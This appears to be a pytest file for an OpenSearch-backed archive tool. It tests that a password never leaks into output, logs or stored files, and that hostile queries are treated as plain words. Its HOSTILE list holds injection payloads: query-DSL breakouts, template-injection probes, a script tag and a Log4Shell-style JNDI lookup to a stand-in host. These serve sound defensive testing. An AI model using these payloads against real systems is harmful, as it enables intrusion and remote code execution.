"""A server's password is told to the server alone, and what is asked stays in its field."""

import os
import subprocess
import sys
from base64 import b64encode
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus

import pytest
from gateway import Gateway
from opensearch_node import Node
from opensearchpy import OpenSearch

from kashshaf import Archive
from kashshaf.archive.settings import write_settings

USER, PASSWORD = "قارئ", "p@ss:w/ø\"rd' %41?#{}$(x)\\سر"
AS_SENT = b64encode(f"{USER}:{PASSWORD}".encode()).decode()
FORMS = {PASSWORD, quote(PASSWORD), quote(PASSWORD, ""), quote_plus(PASSWORD), repr(PASSWORD)[1:-1]}
FORMS |= {AS_SENT, PASSWORD.encode("unicode_escape").decode(), "w/ø"}
ITEMS = [
    {"id": "1", "title": "نهر", "text": "كتاب عن المدينة", "source": "الساحل", "author": "ليلى"},
    {"id": "2", "title": "مدينة", "text": "نهر يجري", "source": "المنارة", "tags": ["سر"]},
]


def told(text: str) -> list[str]:
    return [form for form in FORMS if form in text]


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    """An archive's folder whose settings name the engine and no server."""
    (tmp_path / "press").mkdir()
    write_settings(tmp_path / "press", "الساحل", engine="opensearch")
    with (tmp_path / "press" / "settings.toml").open("a", encoding="utf-8") as settings:
        settings.write('[engines.opensearch]\nindex = "secrets"\nreplicas = 0\n')
    return tmp_path / "press"


def run(*arguments: str, given: str = "", **environment: str) -> tuple[int, str]:
    """A command, with all that any library logs on standard error; its status and what it said."""
    code = (
        "import logging; logging.basicConfig(level=logging.DEBUG)\n"
        "from kashshaf.cli.main import main; main()"
    )
    result = subprocess.run(
        [sys.executable, "-c", code, *arguments],
        input=given.encode(),
        capture_output=True,
        env=os.environ | environment,
        timeout=120,
        check=False,
    )
    return result.returncode, (result.stdout + result.stderr).decode(errors="replace")


def test_a_password_is_in_nothing_that_is_said_or_kept(
    node: Node, client: OpenSearch, folder: Path, tmp_path: Path
) -> None:
    with Gateway(node, tmp_path, USER, PASSWORD) as gateway:
        let_in = {
            "KASHSHAF_ARCHIVE": str(folder),
            "KASHSHAF_OPENSEARCH_HOSTS": gateway.address,
            "KASHSHAF_OPENSEARCH_USER": USER,
            "KASHSHAF_OPENSEARCH_PASSWORD": PASSWORD,
            "KASHSHAF_OPENSEARCH_CA_CERTS": str(gateway.certificate),
        }
        for given in (
            ["ingest", "-", "--workers", "1"],
            ["search", "نهر", "--facets", "--json"],
            *(["stats", "--json"], ["stats"], ["verify", "--json"], ["rebuild", "--workers", "2"]),
        ):
            status, said = run(*given, given='{"text": "نهر"}\n', **let_in)
            assert status == 0, said
            assert not told(said)
        for wrong in (
            {"KASHSHAF_OPENSEARCH_PASSWORD": PASSWORD + "x"},
            {"KASHSHAF_OPENSEARCH_HOSTS": "https://127.0.0.1:9"},
            {"KASHSHAF_OPENSEARCH_HOSTS": "http://search.example:9200"},
            {"KASHSHAF_OPENSEARCH_HOSTS": f"https://{quote(USER)}:{quote(PASSWORD, '')}@127.0.0.1"},
            {"KASHSHAF_OPENSEARCH_HOSTS": f"https://me:{PASSWORD}@127.0.0.1:9200"},
            {"KASHSHAF_OPENSEARCH_USER": ""},
            {"KASHSHAF_OPENSEARCH_CA_CERTS": ""},
        ):
            status, said = run("search", "نهر", **let_in | wrong)
            assert status == 1
            assert not told(said)
    kept = "".join(
        path.read_bytes().decode(errors="replace") for path in folder.rglob("*") if path.is_file()
    )
    assert "secrets" in kept
    assert not told(kept)
    for index in client.indices.get(index="secrets.*"):
        client.indices.delete(index=index)


# What is asked stays in its field

HOSTILE = [
    *("*:*", "title:نهر", "_id:1", "_exists_:text", "number:[1 TO 9]", "/.*/", "نهر) OR (*:*"),
    *(
        'نهر" OR title:*',
        '"}},{"match_all":{}}',
        '{"match_all": {}}',
        '{"query_string":{"query":"*"}}',
    ),
    *("${jndi:ldap://x.example/a}", "ctx._source", "doc['number'].value", "#{7*7}", "{{7*7}}"),
    *("نهر^9", "نهر~2", "+نهر -مدينة", "نهر\\", "\\u0022}", "<script>", "%22%7D", "\x00", "\ud800"),
    *("words_text", "facet_source", "_source", "*", "?", "الساحل*", "unknown"),
]


@pytest.fixture
def twins(
    node: Node, client: OpenSearch, folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[tuple[Archive, Archive]]:
    """The same items on the server, and in an index of files that has no language of its own."""
    monkeypatch.setenv("KASHSHAF_OPENSEARCH_HOSTS", node.address)
    with Archive.create(folder) as served, Archive.create(tmp_path / "files") as kept:
        for archive in (served, kept):
            archive.add(ITEMS)
        yield served, kept
    for index in client.indices.get(index="secrets.*"):
        client.indices.delete(index=index)


def test_whatever_is_asked_finds_what_the_words_alone_find(twins: tuple[Archive, Archive]) -> None:
    def found(archive: Archive, text: str) -> list[Any]:
        fields = ("source", "author", "tag", "platform")
        return [
            *(archive.search(asked).total for asked in (text, f'"{text}"', f"source:{text}")),
            *(archive.search(only={field: [text]}).total for field in fields),
            archive.search(excluding={"source": [text]}).total,
            archive.concordance(text).total,
            archive.complete(text),
            [trend.total for trend in archive.trends([text]).trends],
        ]

    served, kept = twins
    for text in HOSTILE:
        assert found(served, text) == found(kept, text), text
